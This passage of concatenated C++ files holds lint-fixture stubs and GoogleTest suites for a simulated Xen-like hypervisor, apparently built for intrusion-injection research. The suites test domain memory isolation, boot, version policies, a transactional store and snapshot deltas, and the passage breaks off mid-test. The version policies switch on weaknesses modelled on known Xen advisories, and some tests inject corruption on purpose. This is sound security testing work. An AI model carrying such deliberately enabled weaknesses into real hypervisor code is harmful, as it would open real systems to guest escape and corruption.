// call site ever fires, and one duplicate row.
namespace ii::core {

struct ChaosPointEntry {
  const char* name;
  const char* what;
};

constexpr ChaosPointEntry kChaosPointTable[] = {
    {"cell.alloc_fail", "fail the next cell allocation"},
    {"dead.point", "registered but never fired"},       // EXPECT[registry-closure]
    {"cell.alloc_fail", "duplicate of the first row"},  // EXPECT[registry-closure]
};

}  // namespace ii::core
