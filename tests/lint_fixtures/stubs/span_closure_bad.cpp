// Render-name table stub (closure-bad variant): a row with no
// instrumentation site, a row for an undeclared constant, and a
// duplicate row.
#include "obs/span.hpp"

namespace ii::obs {

struct SpanNameEntry {
  std::string_view name;
  std::string_view what;
};

constexpr SpanNameEntry kSpanNameTable[] = {
    SpanNameEntry{kSpanCell, "one campaign cell"},
    SpanNameEntry{kSpanDead, "declared but never instrumented"},  // EXPECT[registry-closure]
    SpanNameEntry{kSpanGhost, "row for an undeclared constant"},  // EXPECT[registry-closure]
    SpanNameEntry{kSpanCell, "duplicate of the first row"},       // EXPECT[registry-closure]
};

}  // namespace ii::obs
