// TraceCategory registry stub (bad variant): Panic has no to_string case
// in the paired trace_missing_panic.cpp, so the span-render-name rule
// must flag the enumerator here.
#pragma once
#include <cstddef>

namespace ii::obs {

enum class TraceCategory : unsigned char {
  HypercallEnter,
  Panic,  // EXPECT[span-render-name]
};

inline constexpr std::size_t kCategoryCount = 2;

}  // namespace ii::obs
