// to_string stub (bad variant): the Panic case is missing.
#include "obs/trace.hpp"

namespace ii::obs {

const char* to_string(TraceCategory c) {
  switch (c) {
    case TraceCategory::HypercallEnter:
      return "hypercall_enter";
    default:
      return "?";
  }
}

}  // namespace ii::obs
