// FuzzTarget registry stub (closure-bad variant): kFuzzTargetCount trails
// the enumerator list — a newly added target would never be drawn.
#pragma once
#include <cstddef>

namespace ii::core {

enum class FuzzTarget {
  GuestPageTable,
  FrameTableEntry,
  GrantTable,
  HypervisorText,
  IdtFrame,
};

inline constexpr std::size_t kFuzzTargetCount = 4;  // EXPECT[registry-closure]

}  // namespace ii::core
