// to_string stub, mounted at src/obs/trace.cpp by the lint fixture
// harness. Every enumerator has exactly one case.
#include "obs/trace.hpp"

namespace ii::obs {

const char* to_string(TraceCategory c) {
  switch (c) {
    case TraceCategory::HypercallEnter:
      return "hypercall_enter";
    case TraceCategory::Panic:
      return "panic";
  }
  return "?";
}

}  // namespace ii::obs
