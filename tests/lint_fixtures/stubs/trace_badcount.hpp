// TraceCategory registry stub (closure-bad variant): kCategoryCount
// disagrees with the enumerator count, so category-mask math would
// silently drop events.
#pragma once
#include <cstddef>

namespace ii::obs {

enum class TraceCategory : unsigned char {
  HypercallEnter,
  Panic,
};

inline constexpr std::size_t kCategoryCount = 3;  // EXPECT[registry-closure]

}  // namespace ii::obs
