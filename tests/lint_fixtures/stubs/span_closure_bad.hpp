// Span-name constants stub (closure-bad variant): kSpanDead is declared
// and registered but no instrumentation site ever uses it.
#pragma once
#include <string_view>

namespace ii::obs {

inline constexpr std::string_view kSpanCell = "cell";
inline constexpr std::string_view kSpanDead = "dead";

}  // namespace ii::obs
