// Span-name constants stub, mounted at src/obs/span.hpp by the lint
// fixture harness.
#pragma once
#include <string_view>

namespace ii::obs {

inline constexpr std::string_view kSpanCell = "cell";

}  // namespace ii::obs
