// FuzzTarget registry stub (clean variant): kFuzzTargetCount matches the
// enumerator count, so the uniform target draw covers every target.
#pragma once
#include <cstddef>

namespace ii::core {

enum class FuzzTarget {
  GuestPageTable,
  FrameTableEntry,
  GrantTable,
  HypervisorText,
  IdtFrame,
};

inline constexpr std::size_t kFuzzTargetCount = 5;

}  // namespace ii::core
