// TraceCategory registry stub, mounted at src/obs/trace.hpp by the lint
// fixture harness. The enumerator count matches kCategoryCount.
#pragma once
#include <cstddef>

namespace ii::obs {

enum class TraceCategory : unsigned char {
  HypercallEnter,
  Panic,
};

inline constexpr std::size_t kCategoryCount = 2;

}  // namespace ii::obs
