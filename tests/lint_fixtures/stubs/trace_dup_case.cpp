// to_string stub (closure-bad variant): one case is duplicated.
#include "obs/trace.hpp"

namespace ii::obs {

const char* to_string(TraceCategory c) {
  switch (c) {
    case TraceCategory::HypercallEnter:
      return "hypercall_enter";
    case TraceCategory::Panic:
      return "panic";
    case TraceCategory::HypercallEnter:  // EXPECT[registry-closure]
      return "dup";
  }
  return "?";
}

}  // namespace ii::obs
