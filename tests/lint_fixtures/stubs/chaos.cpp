// Chaos-point registry stub, mounted at src/core/chaos.cpp by the lint
// fixture harness. One registered point; the instrumentation fixture
// fires it.
namespace ii::core {

struct ChaosPointEntry {
  const char* name;
  const char* what;
};

constexpr ChaosPointEntry kChaosPointTable[] = {
    {"cell.alloc_fail", "fail the next cell allocation"},
};

}  // namespace ii::core
