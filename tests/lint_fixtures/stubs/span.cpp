// Render-name table stub, mounted at src/obs/span.cpp by the lint
// fixture harness.
#include "obs/span.hpp"

namespace ii::obs {

struct SpanNameEntry {
  std::string_view name;
  std::string_view what;
};

constexpr SpanNameEntry kSpanNameTable[] = {
    SpanNameEntry{kSpanCell, "one campaign cell"},
};

}  // namespace ii::obs
