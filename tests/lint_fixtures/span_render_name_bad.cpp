// Known-bad fixture: an instrumentation site using a span constant with
// no render-name table row. The finding anchors at the constant's first
// use in path order — its declaration line here.
#include "obs/span.hpp"

namespace bad {

inline constexpr std::string_view kSpanRogue = "rogue";  // EXPECT[span-render-name]

void instrument(ii::obs::SpanProfiler* prof) {
  const ii::obs::ScopedSpan registered{prof, kSpanCell};
  const ii::obs::ScopedSpan unregistered{prof, kSpanRogue};
}

}  // namespace bad
