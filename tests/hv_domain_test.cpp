// Domain building and the guest memory-access path.
#include <gtest/gtest.h>

#include <cstring>

#include "hv/audit.hpp"
#include "hv/hypervisor.hpp"

namespace ii::hv {
namespace {

class DomainFixture : public ::testing::Test {
 protected:
  DomainFixture()
      : mem{8192}, hv{mem, VersionPolicy::for_version(kXen46)} {
    dom0 = hv.create_domain("dom0", true, 128);
    guest = hv.create_domain("guest01", false, 64);
  }

  sim::PhysicalMemory mem;
  Hypervisor hv;
  DomainId dom0{};
  DomainId guest{};
};

TEST_F(DomainFixture, FirstDomainMustBePrivileged) {
  sim::PhysicalMemory m{4096};
  Hypervisor h{m, VersionPolicy::for_version(kXen46)};
  EXPECT_THROW(h.create_domain("guest", false, 64), std::logic_error);
}

TEST_F(DomainFixture, P2mIsPopulatedAndContiguous) {
  const Domain& dom = hv.domain(guest);
  EXPECT_EQ(dom.nr_pages(), 64u);
  const auto first = dom.p2m(sim::Pfn{0});
  ASSERT_TRUE(first.has_value());
  for (std::uint64_t p = 0; p < 64; ++p) {
    const auto mfn = dom.p2m(sim::Pfn{p});
    ASSERT_TRUE(mfn.has_value());
    EXPECT_EQ(mfn->raw(), first->raw() + p);
    EXPECT_EQ(hv.frames().info(*mfn).owner, guest);
  }
  EXPECT_FALSE(dom.p2m(sim::Pfn{64}).has_value());
}

TEST_F(DomainFixture, TopLevelTableIsValidatedL4) {
  const Domain& dom = hv.domain(guest);
  const PageInfo& pi = hv.frames().info(dom.cr3());
  EXPECT_EQ(pi.type, PageType::L4);
  EXPECT_TRUE(pi.validated);
  EXPECT_GE(pi.type_count, 1u);
  ASSERT_EQ(dom.pinned_tables().size(), 1u);
  EXPECT_EQ(dom.pinned_tables()[0], dom.cr3());
}

TEST_F(DomainFixture, TableFramesHavePageTableTypes) {
  // The builder puts L1..L4 at the top of the allocation; all must carry
  // page-table types, and data pages the Writable type.
  const Domain& dom = hv.domain(guest);
  int pt_frames = 0, writable_frames = 0;
  for (std::uint64_t p = 0; p < dom.nr_pages(); ++p) {
    const PageInfo& pi = hv.frames().info(*dom.p2m(sim::Pfn{p}));
    if (is_pagetable_type(pi.type)) {
      ++pt_frames;
      EXPECT_TRUE(pi.validated);
    } else if (pi.type == PageType::Writable) {
      ++writable_frames;
    }
  }
  EXPECT_EQ(pt_frames, 4);  // 1×L1 + L2 + L3 + L4 for a 64-page domain
  // Data pages minus the (unmapped) grant-status window.
  EXPECT_EQ(writable_frames, 59);
}

TEST_F(DomainFixture, StartInfoIsPublished) {
  const Domain& dom = hv.domain(dom0);
  EXPECT_EQ(dom.start_info_mfn(), *dom.p2m(sim::Pfn{0}));
}

TEST_F(DomainFixture, FreshDomainsAuditClean) {
  EXPECT_TRUE(audit_system(hv).clean());
}

TEST_F(DomainFixture, GuestReadWriteThroughDirectmap) {
  const sim::Vaddr va{kGuestKernelBase + 5 * sim::kPageSize + 100};
  const std::array<std::uint8_t, 4> in{1, 2, 3, 4};
  ASSERT_TRUE(hv.guest_write(guest, va, in).has_value());
  std::array<std::uint8_t, 4> out{};
  ASSERT_TRUE(hv.guest_read(guest, va, out).has_value());
  EXPECT_EQ(in, out);
  // And the bytes really landed in the backing machine frame.
  const auto mfn = hv.domain(guest).p2m(sim::Pfn{5});
  EXPECT_EQ(mem.frame_bytes(*mfn)[100], 1);
}

TEST_F(DomainFixture, GuestCannotWritePageTablePages) {
  const Domain& dom = hv.domain(guest);
  const std::uint64_t table_pfn = dom.nr_pages() - 1;  // the L4
  const sim::Vaddr va{kGuestKernelBase + table_pfn * sim::kPageSize};
  std::array<std::uint8_t, 1> byte{0xFF};
  const auto res = hv.guest_write(guest, va, byte);
  ASSERT_FALSE(res.has_value());
  EXPECT_EQ(res.error().reason, sim::FaultReason::WriteProtected);
  // Reading them is fine (mapped read-only).
  EXPECT_TRUE(hv.guest_read(guest, va, byte).has_value());
}

TEST_F(DomainFixture, GuestCannotTouchOtherDomainsMappings) {
  // The guest's directmap only covers its own pages; beyond it faults.
  const sim::Vaddr beyond{kGuestKernelBase + 64 * sim::kPageSize};
  std::array<std::uint8_t, 1> byte{};
  const auto res = hv.guest_read(guest, beyond, byte);
  ASSERT_FALSE(res.has_value());
  EXPECT_EQ(res.error().reason, sim::FaultReason::NotPresent);
}

TEST_F(DomainFixture, GuestCanReadXenTextButNotWrite) {
  std::array<std::uint8_t, 8> buf{};
  EXPECT_TRUE(hv.guest_read(guest, sim::Vaddr{kXenTextBase}, buf).has_value());
  // That's the XenInfoPage magic.
  std::uint64_t magic = 0;
  std::memcpy(&magic, buf.data(), sizeof magic);
  EXPECT_EQ(magic, XenInfoPage::kMagic);
  const auto res = hv.guest_write(guest, sim::Vaddr{kXenTextBase}, buf);
  ASSERT_FALSE(res.has_value());
  EXPECT_EQ(res.error().reason, sim::FaultReason::WriteProtected);
}

TEST_F(DomainFixture, GuestCannotReachDirectmap) {
  std::array<std::uint8_t, 1> byte{};
  const auto res =
      hv.guest_read(guest, directmap_vaddr(sim::Paddr{0}), byte);
  ASSERT_FALSE(res.has_value());
  EXPECT_EQ(res.error().reason, sim::FaultReason::UserProtected);
}

TEST_F(DomainFixture, TooSmallDomainRejected) {
  EXPECT_THROW(hv.create_domain("tiny", false, 4), std::invalid_argument);
  // The smallest viable domain: 4 table frames + start_info/vDSO + slack.
  EXPECT_NO_THROW(hv.create_domain("small", false, 8));
}

TEST_F(DomainFixture, DomainLookup) {
  EXPECT_EQ(hv.domain(guest).name(), "guest01");
  EXPECT_TRUE(hv.domain(dom0).privileged());
  EXPECT_FALSE(hv.domain(guest).privileged());
  EXPECT_THROW((void)hv.domain(DomainId{99}), std::out_of_range);
  const auto ids = hv.domain_ids();
  ASSERT_EQ(ids.size(), 2u);
}

TEST_F(DomainFixture, CrossPageGuestAccess) {
  // A write spanning two directmap pages lands in two machine frames.
  std::vector<std::uint8_t> in(64, 0xCD);
  const sim::Vaddr va{kGuestKernelBase + 6 * sim::kPageSize - 32};
  ASSERT_TRUE(hv.guest_write(guest, va, in).has_value());
  const auto m5 = hv.domain(guest).p2m(sim::Pfn{5});
  const auto m6 = hv.domain(guest).p2m(sim::Pfn{6});
  EXPECT_EQ(mem.frame_bytes(*m5)[sim::kPageSize - 1], 0xCD);
  EXPECT_EQ(mem.frame_bytes(*m6)[31], 0xCD);
}

}  // namespace
}  // namespace ii::hv
