// Hypervisor boot: address-space construction, version policies, IDT setup,
// the XenInfoPage, and clean initial audits.
#include <gtest/gtest.h>

#include "hv/audit.hpp"
#include "hv/hypervisor.hpp"

namespace ii::hv {
namespace {

sim::PhysicalMemory make_mem() { return sim::PhysicalMemory{4096}; }

TEST(VersionPolicy, MatrixMatchesDesign) {
  const auto p46 = VersionPolicy::for_version(kXen46);
  EXPECT_TRUE(p46.xsa212_unchecked_exchange_output);
  EXPECT_TRUE(p46.xsa148_l2_pse_unvalidated);
  EXPECT_TRUE(p46.xsa182_l4_fastpath_unvalidated);
  EXPECT_TRUE(p46.guest_linear_alias_present);
  EXPECT_FALSE(p46.strict_reserved_slot_check);

  const auto p48 = VersionPolicy::for_version(kXen48);
  EXPECT_FALSE(p48.xsa212_unchecked_exchange_output);
  EXPECT_FALSE(p48.xsa148_l2_pse_unvalidated);
  EXPECT_FALSE(p48.xsa182_l4_fastpath_unvalidated);
  EXPECT_TRUE(p48.guest_linear_alias_present);
  EXPECT_FALSE(p48.strict_reserved_slot_check);

  const auto p413 = VersionPolicy::for_version(kXen413);
  EXPECT_FALSE(p413.xsa212_unchecked_exchange_output);
  EXPECT_FALSE(p413.guest_linear_alias_present);
  EXPECT_TRUE(p413.strict_reserved_slot_check);
  EXPECT_FALSE(p413.grant_v2_status_leak);
  EXPECT_TRUE(VersionPolicy::for_version(kXen48).grant_v2_status_leak);
}

TEST(VersionPolicy, Ordering) {
  EXPECT_LT(kXen46, kXen48);
  EXPECT_LT(kXen48, kXen413);
  EXPECT_EQ(kXen46.to_string(), "4.6");
  EXPECT_EQ(kXen413.to_string(), "4.13");
}

TEST(HypervisorBoot, ReservesXenFrames) {
  auto mem = make_mem();
  Hypervisor hv{mem, VersionPolicy::for_version(kXen46)};
  for (std::uint64_t f = 0; f < 16; ++f) {
    EXPECT_EQ(hv.frames().info(sim::Mfn{f}).owner, kDomXen) << f;
  }
}

TEST(HypervisorBoot, PublishesXenInfoPage) {
  auto mem = make_mem();
  Hypervisor hv{mem, VersionPolicy::for_version(kXen48)};
  XenInfoPage info{};
  mem.read(sim::Paddr{0},
           {reinterpret_cast<std::uint8_t*>(&info), sizeof info});
  EXPECT_EQ(info.magic, XenInfoPage::kMagic);
  EXPECT_EQ(info.version_major, 4u);
  EXPECT_EQ(info.version_minor, 8u);
  EXPECT_EQ(info.xen_l3_paddr, sim::mfn_to_paddr(hv.xen_l3()).raw());
  EXPECT_EQ(info.idt_paddr, hv.idt_base().raw());
}

TEST(HypervisorBoot, IdtHasWellFormedDefaultGates) {
  auto mem = make_mem();
  Hypervisor hv{mem, VersionPolicy::for_version(kXen46)};
  for (unsigned v : {0u, 8u, 13u, 14u, 128u, 255u}) {
    const sim::IdtGate gate = hv.idt().read(v);
    EXPECT_TRUE(gate.well_formed()) << v;
    EXPECT_EQ(gate.handler, hv.default_handler(v)) << v;
  }
}

TEST(HypervisorBoot, DirectmapTranslatesAllOfMemory) {
  auto mem = make_mem();
  Hypervisor hv{mem, VersionPolicy::for_version(kXen413)};
  for (const std::uint64_t pa :
       {std::uint64_t{0}, std::uint64_t{0x12345},
        mem.byte_size() - sim::kPageSize}) {
    const auto walk =
        hv.hv_translate(directmap_vaddr(sim::Paddr{pa}), sim::AccessType::Write);
    ASSERT_TRUE(walk.has_value()) << pa;
    EXPECT_EQ(walk->physical.raw(), pa);
    EXPECT_FALSE(walk->user);  // hypervisor-private
  }
}

TEST(HypervisorBoot, SidtPointsAtIdtThroughDirectmap) {
  auto mem = make_mem();
  Hypervisor hv{mem, VersionPolicy::for_version(kXen46)};
  const auto walk = hv.hv_translate(hv.sidt(), sim::AccessType::Write);
  ASSERT_TRUE(walk.has_value());
  EXPECT_EQ(walk->physical.raw(), hv.idt_base().raw());
}

TEST(HypervisorBoot, FreshSystemAuditsClean) {
  for (const auto version : {kXen46, kXen48, kXen413}) {
    auto mem = make_mem();
    Hypervisor hv{mem, VersionPolicy::for_version(version)};
    const AuditReport report = audit_system(hv);
    EXPECT_TRUE(report.clean()) << version.to_string() << ": "
                                << (report.findings.empty()
                                        ? ""
                                        : report.findings.front().detail);
  }
}

TEST(HypervisorBoot, ConsoleAnnouncesVersionAndInjector) {
  auto mem = make_mem();
  HvConfig cfg{};
  cfg.injector_enabled = true;
  Hypervisor hv{mem, VersionPolicy::for_version(kXen413), cfg};
  bool version_line = false, injector_line = false;
  for (const auto& line : hv.console()) {
    if (line.find("Xen version 4.13") != std::string::npos) version_line = true;
    if (line.find("intrusion-injection hypercall ENABLED") !=
        std::string::npos) {
      injector_line = true;
    }
  }
  EXPECT_TRUE(version_line);
  EXPECT_TRUE(injector_line);
}

TEST(HypervisorBoot, BadConfigRejected) {
  auto mem = make_mem();
  HvConfig tiny{};
  tiny.xen_frames = 2;
  EXPECT_THROW((Hypervisor{mem, VersionPolicy::for_version(kXen46), tiny}),
               std::invalid_argument);
}

TEST(HypervisorBoot, PanicLogsBannerAndHalts) {
  auto mem = make_mem();
  Hypervisor hv{mem, VersionPolicy::for_version(kXen46)};
  EXPECT_FALSE(hv.crashed());
  hv.panic("DOUBLE FAULT -- test");
  EXPECT_TRUE(hv.crashed());
  bool banner = false, reason = false;
  for (const auto& line : hv.console()) {
    if (line.find("Panic on CPU 0") != std::string::npos) banner = true;
    if (line.find("DOUBLE FAULT -- test") != std::string::npos) reason = true;
  }
  EXPECT_TRUE(banner);
  EXPECT_TRUE(reason);
  // Panicking again is a no-op.
  const auto lines = hv.console().size();
  hv.panic("again");
  EXPECT_EQ(hv.console().size(), lines);
}

TEST(HypervisorBoot, GuestRangeBlockedOnlyOn413) {
  auto mem = make_mem();
  Hypervisor hv46{mem, VersionPolicy::for_version(kXen46)};
  EXPECT_FALSE(hv46.guest_range_blocked(sim::Vaddr{kLinearAliasBase}));

  auto mem2 = make_mem();
  Hypervisor hv413{mem2, VersionPolicy::for_version(kXen413)};
  EXPECT_TRUE(hv413.guest_range_blocked(sim::Vaddr{kLinearAliasBase}));
  // The Xen text window stays readable.
  EXPECT_FALSE(hv413.guest_range_blocked(sim::Vaddr{kXenTextBase}));
  // Guest-owned ranges are never blocked.
  EXPECT_FALSE(hv413.guest_range_blocked(sim::Vaddr{kGuestKernelBase}));
  EXPECT_FALSE(hv413.guest_range_blocked(sim::Vaddr{0x400000}));
}

}  // namespace
}  // namespace ii::hv
