// The transactional KV store: ACID behaviour under clean operation, torn
// logs, and targeted corruption.
#include <gtest/gtest.h>

#include "guest/platform.hpp"
#include "txdb/guest_storage.hpp"
#include "txdb/txdb.hpp"

namespace ii::txdb {
namespace {

TEST(VectorStorageTest, BoundsChecked) {
  VectorStorage s{64};
  std::array<std::uint8_t, 8> buf{};
  EXPECT_TRUE(s.read(0, buf));
  EXPECT_TRUE(s.write(56, buf));
  EXPECT_FALSE(s.write(57, buf));
  EXPECT_FALSE(s.read(64, buf));
}

TEST(Fnv1a, KnownValuesAndSensitivity) {
  const std::array<std::uint8_t, 3> abc{'a', 'b', 'c'};
  const std::array<std::uint8_t, 3> abd{'a', 'b', 'd'};
  EXPECT_NE(fnv1a(abc), fnv1a(abd));
  EXPECT_EQ(fnv1a({}), 0xCBF29CE484222325ULL);  // offset basis for empty
}

TEST(TransactionalKv, CommitThenGet) {
  VectorStorage s{4096};
  TransactionalKV db{s};
  Transaction tx;
  tx.put("alice", "100");
  tx.put("bob", "50");
  ASSERT_TRUE(db.commit(tx));
  EXPECT_EQ(db.get("alice"), "100");
  EXPECT_EQ(db.get("bob"), "50");
  EXPECT_FALSE(db.get("carol").has_value());
  EXPECT_EQ(db.committed_count(), 1u);
}

TEST(TransactionalKv, LaterCommitsOverwrite) {
  VectorStorage s{4096};
  TransactionalKV db{s};
  Transaction t1, t2;
  t1.put("k", "v1");
  t2.put("k", "v2");
  ASSERT_TRUE(db.commit(t1));
  ASSERT_TRUE(db.commit(t2));
  EXPECT_EQ(db.get("k"), "v2");
  EXPECT_EQ(db.committed_count(), 2u);
}

TEST(TransactionalKv, DurabilityAcrossRecovery) {
  VectorStorage s{4096};
  {
    TransactionalKV db{s};
    Transaction tx;
    tx.put("persist", "yes");
    ASSERT_TRUE(db.commit(tx));
  }
  // "Reboot": attach a fresh instance to the same storage.
  TransactionalKV db2{s, /*format=*/false};
  EXPECT_EQ(db2.get("persist"), "yes");
  EXPECT_EQ(db2.committed_count(), 1u);
  const auto report = db2.verify();
  EXPECT_FALSE(report.torn_record_found);
  EXPECT_FALSE(report.log_unreadable);
}

TEST(TransactionalKv, FullStorageAbortsAtomically) {
  VectorStorage s{96};  // superblock + terminator only
  TransactionalKV db{s};
  Transaction tx;
  tx.put("key-too-big", std::string(200, 'x'));
  EXPECT_FALSE(db.commit(tx));
  EXPECT_FALSE(db.get("key-too-big").has_value());  // not visible
  EXPECT_EQ(db.committed_count(), 0u);
}

TEST(TransactionalKv, CorruptedRecordDetectedAndDropped) {
  VectorStorage s{4096};
  TransactionalKV db{s};
  Transaction t1, t2;
  t1.put("a", "1");
  t2.put("b", "2");
  ASSERT_TRUE(db.commit(t1));
  ASSERT_TRUE(db.commit(t2));
  // Flip one byte inside the SECOND record's payload.
  s.bytes()[64 + 20 + 7 + 20] ^= 0xFF;
  const auto report = db.verify();
  EXPECT_TRUE(report.torn_record_found);
  EXPECT_EQ(report.committed_transactions, 1u);

  const auto rec = db.recover();
  EXPECT_TRUE(rec.torn_record_found);
  EXPECT_EQ(db.get("a"), "1");
  EXPECT_FALSE(db.get("b").has_value());  // atomically dropped
}

TEST(TransactionalKv, SuperblockCorruptionIsFatal) {
  VectorStorage s{4096};
  TransactionalKV db{s};
  s.bytes()[0] ^= 0xFF;
  const auto report = db.verify();
  EXPECT_TRUE(report.log_unreadable);
  EXPECT_EQ(report.committed_transactions, 0u);
}

TEST(TransactionalKv, MultiKeyTransactionIsAtomicUnderTruncation) {
  // Cut the storage short mid-record: recovery must expose either the whole
  // transaction or nothing.
  VectorStorage s{4096};
  TransactionalKV db{s};
  Transaction tx;
  tx.put("x", "111111111111111111111111");
  tx.put("y", "222222222222222222222222");
  ASSERT_TRUE(db.commit(tx));
  // Corrupt the tail of the payload (inside y's value).
  s.bytes()[64 + 20 + 50] ^= 0x01;
  TransactionalKV db2{s, /*format=*/false};
  EXPECT_FALSE(db2.get("x").has_value());
  EXPECT_FALSE(db2.get("y").has_value());
}

/// Property sweep: N committed transactions always recover to N with
/// identical final state, whatever the workload shape.
class WorkloadSweep : public ::testing::TestWithParam<int> {};

TEST_P(WorkloadSweep, RecoveryReproducesState) {
  const int n = GetParam();
  VectorStorage s{1 << 16};
  TransactionalKV db{s};
  for (int i = 0; i < n; ++i) {
    Transaction tx;
    tx.put("key" + std::to_string(i % 7), "value" + std::to_string(i));
    tx.put("counter", std::to_string(i));
    ASSERT_TRUE(db.commit(tx));
  }
  TransactionalKV db2{s, /*format=*/false};
  EXPECT_EQ(db2.committed_count(), static_cast<std::uint64_t>(n));
  for (int k = 0; k < 7 && k < n; ++k) {
    EXPECT_EQ(db2.get("key" + std::to_string(k)),
              db.get("key" + std::to_string(k)));
  }
  if (n > 0) {
    EXPECT_EQ(db2.get("counter"), std::to_string(n - 1));
  }
}

INSTANTIATE_TEST_SUITE_P(Sizes, WorkloadSweep,
                         ::testing::Values(0, 1, 2, 16, 100));

TEST(GuestStorage, WorksThroughTheMmu) {
  guest::PlatformConfig pc{};
  pc.machine_frames = 8192;
  pc.dom0_pages = 128;
  pc.guest_pages = 64;
  guest::VirtualPlatform platform{pc};
  GuestMemoryStorage storage{platform.guest(0), 8};
  EXPECT_EQ(storage.size(), 8 * sim::kPageSize);
  EXPECT_EQ(storage.pfns().size(), 8u);

  TransactionalKV db{storage};
  Transaction tx;
  tx.put("cloud", "tenant");
  ASSERT_TRUE(db.commit(tx));
  EXPECT_EQ(db.get("cloud"), "tenant");
  EXPECT_FALSE(db.verify().torn_record_found);

  // Cross-page write path: a record spanning page boundaries.
  Transaction big;
  big.put("blob", std::string(6000, 'z'));
  ASSERT_TRUE(db.commit(big));
  TransactionalKV db2{storage, /*format=*/false};
  EXPECT_EQ(db2.get("blob")->size(), 6000u);
}

TEST(GuestStorage, HypervisorLevelCorruptionIsDetected) {
  // The §III-C scenario in miniature: an intrusion writes one byte into the
  // store's backing frame, under the guest's feet.
  guest::PlatformConfig pc{};
  pc.machine_frames = 8192;
  pc.dom0_pages = 128;
  pc.guest_pages = 64;
  guest::VirtualPlatform platform{pc};
  GuestMemoryStorage storage{platform.guest(0), 8};
  TransactionalKV db{storage};
  Transaction tx;
  tx.put("balance", "1000");
  ASSERT_TRUE(db.commit(tx));

  const sim::Mfn frame = *platform.guest(0).pfn_to_mfn(storage.pfns()[0]);
  platform.memory().writable_frame(frame)[64 + 20 + 2] ^= 0xFF;

  EXPECT_TRUE(db.verify().torn_record_found);
}

}  // namespace
}  // namespace ii::txdb
