// Randomized properties of the incremental snapshot engine (DESIGN.md §10).
//
// Two invariants hold after *any* accepted-or-refused hypercall stream:
//   1. The dirty-frame digest cache is transparent: state_hash() (cached)
//      equals state_hash_full() (every frame rehashed).
//   2. (baseline, delta) densely describes a state: restore_delta(base,
//      delta) rebuilds it byte-identically — the full memory image, frame
//      generations, frame table, console and hash all match a full
//      snapshot taken at capture time — and restore_delta(base) rewinds
//      byte-identically to the baseline.
// Both are fuzzed with seeded generators across the three paper versions,
// so any mutation path that skips dirty-marking shows up as a hash split.
#include <gtest/gtest.h>

#include <random>
#include <tuple>

#include "hv/hypervisor.hpp"
#include "hv/snapshot.hpp"

namespace ii::hv {
namespace {

struct Harness {
  explicit Harness(XenVersion version, unsigned seed)
      : mem{4096}, hv{mem, VersionPolicy::for_version(version)}, rng{seed} {
    dom0 = hv.create_domain("dom0", true, 64);
    guest = hv.create_domain("guest01", false, 128);
  }

  std::uint64_t rand_pfn() { return rng() % hv.domain(guest).nr_pages(); }

  /// One random mutation through a public hypercall surface. Accepted and
  /// refused requests are both interesting: refusals still write the
  /// console and must not desynchronize the digest cache either way.
  void random_op() {
    switch (rng() % 5) {
      case 0: {  // mmu_update on a random own-table slot
        const Domain& dom = hv.domain(guest);
        const std::uint64_t table_pfn = 124 + rng() % 4;
        const unsigned index = static_cast<unsigned>(rng() % sim::kPtEntries);
        std::uint64_t flags = sim::Pte::kPresent;
        if (rng() % 2) flags |= sim::Pte::kWritable;
        if (rng() % 2) flags |= sim::Pte::kUser;
        if (rng() % 8 == 0) flags |= sim::Pte::kPageSize;
        const sim::Pte entry =
            sim::Pte::make(*dom.p2m(sim::Pfn{rand_pfn()}), flags);
        const MmuUpdate req{
            sim::mfn_to_paddr(*dom.p2m(sim::Pfn{table_pfn})).raw() +
                index * 8,
            entry.raw()};
        (void)hv.hypercall_mmu_update(guest, {&req, 1});
        break;
      }
      case 1: {  // memory_exchange, mostly invalid
        MemoryExchange exch{};
        exch.in_extents = {sim::Pfn{rand_pfn()}};
        exch.out_extent_start =
            sim::Vaddr{kGuestKernelBase + (rng() % 64) * sim::kPageSize};
        (void)hv.hypercall_memory_exchange(guest, exch);
        break;
      }
      case 2:
        (void)hv.hypercall_console_io(
            guest, "probe " + std::to_string(rng() % 1000));
        break;
      case 3:
        (void)hv.hypercall_decrease_reservation(guest, sim::Pfn{rand_pfn()});
        break;
      default:
        (void)hv.hypercall_populate_physmap(guest, sim::Pfn{rand_pfn()});
        break;
    }
  }

  sim::PhysicalMemory mem;
  Hypervisor hv;
  std::mt19937 rng;
  DomainId dom0{}, guest{};
};

class SnapshotDeltaProperty
    : public ::testing::TestWithParam<std::tuple<int, unsigned>> {};

TEST_P(SnapshotDeltaProperty, IncrementalHashMatchesFullRehash) {
  const auto [minor, seed] = GetParam();
  Harness h{XenVersion{4, minor}, seed};
  ASSERT_EQ(h.hv.state_hash(), h.hv.state_hash_full());
  for (int batch = 0; batch < 12; ++batch) {
    const int ops = 1 + static_cast<int>(h.rng() % 20);
    for (int i = 0; i < ops; ++i) h.random_op();
    const std::uint64_t cached = h.hv.state_hash();
    ASSERT_EQ(cached, h.hv.state_hash_full()) << "batch " << batch;
    // A second cached call must be a pure cache hit with the same value.
    ASSERT_EQ(cached, h.hv.state_hash()) << "batch " << batch;
  }
}

TEST_P(SnapshotDeltaProperty, DeltaRestoreIsByteIdenticalToFullSnapshot) {
  const auto [minor, seed] = GetParam();
  Harness h{XenVersion{4, minor}, seed + 1000};
  const HvSnapshot base = h.hv.snapshot();

  for (int round = 0; round < 4; ++round) {
    const int ops = 1 + static_cast<int>(h.rng() % 30);
    for (int i = 0; i < ops; ++i) h.random_op();

    const HvDelta delta = h.hv.snapshot_delta(base);
    const HvSnapshot full = h.hv.snapshot();
    ASSERT_EQ(delta.hash, full.hash);

    // Rewind to the baseline, then rebuild the captured state from the
    // (baseline, delta) pair alone.
    h.hv.restore_delta(base);
    EXPECT_EQ(h.hv.state_hash(), base.hash) << "round " << round;
    const HvSnapshot at_base = h.hv.snapshot();
    EXPECT_EQ(at_base.memory, base.memory) << "round " << round;
    EXPECT_EQ(at_base.frame_gens, base.frame_gens) << "round " << round;

    h.hv.restore_delta(base, delta);
    EXPECT_EQ(h.hv.state_hash(), full.hash) << "round " << round;
    const HvSnapshot rebuilt = h.hv.snapshot();
    EXPECT_EQ(rebuilt.memory, full.memory) << "round " << round;
    EXPECT_EQ(rebuilt.frame_gens, full.frame_gens) << "round " << round;
    EXPECT_EQ(rebuilt.frames == full.frames, true) << "round " << round;
    EXPECT_EQ(rebuilt.console, full.console) << "round " << round;
    // Continue mutating from the rebuilt state next round.
  }
}

TEST_P(SnapshotDeltaProperty, DeltaAgainstWrongBaselineIsRefused) {
  const auto [minor, seed] = GetParam();
  Harness h{XenVersion{4, minor}, seed + 2000};
  const HvSnapshot base = h.hv.snapshot();
  for (int i = 0; i < 5; ++i) h.random_op();
